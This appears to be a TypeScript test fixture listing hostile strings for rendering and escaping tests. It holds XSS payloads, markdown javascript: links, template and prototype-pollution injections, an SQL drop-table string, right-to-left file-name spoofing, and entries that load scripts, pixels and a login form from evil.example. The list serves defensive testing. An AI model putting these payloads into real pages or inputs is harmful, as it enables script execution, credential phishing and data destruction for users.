const RLO = '\u202e';
const ISOLATE = '\u2066';
const ZERO_WIDTH = '\u200b\u200c\u200d\u2060\ufeff';

/** `e` under a tower of accents, `height` of them. */
export const tower = (height: number): string => `e${'\u0301\u0323\u0336'.repeat(height / 3)}`;

/** Words that try to become code, marks, templates or a broken page. All of them are only words. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '</textarea><script>alert(1)</script>',
  '</title></style></script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)' x='",
  '" autofocus onfocus=alert(1) x="',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></p><img src onerror=alert(1)></mtext></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<div style="position:fixed;inset:0;background:red">over</div>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example><button>Log in</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  'jAvAsCrIpT&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1) "title")',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![pixel](https://evil.example/pixel.png)',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '[a]: javascript:alert(1)\n[a]',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)} #{alert(1)} <%= alert(1) %>',
  '{{{raw}}} {{#each this}}{{@key}}{{/each}}',
  '__proto__[polluted]=1',
  "'; DROP TABLE conversations; --",
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  `${RLO}txt.exe gpj.${RLO}evil`,
  `${ISOLATE.repeat(40)}never closed`,
  'שלום <b>עולם</b> مرحبا (abc) 123',
  `a${ZERO_WIDTH.repeat(60)}b`,
  '\ufffe\uffff\u2028\u2029line',
  'W'.repeat(1_900),
  '一'.repeat(1_900),
  `https://evil.example/${'a'.repeat(1_800)}`,
  '\n'.repeat(300) + 'far below',
  tower(1_900),
];

/** The same as file names, which are short and know no slash or line break. */
export const HOSTILE_NAMES: readonly string[] = HOSTILE_TEXTS.map(
  (text) => `${text.replace(/[/\\\n\u2028\u2029]/g, '_').slice(0, 200)}.png`,
);
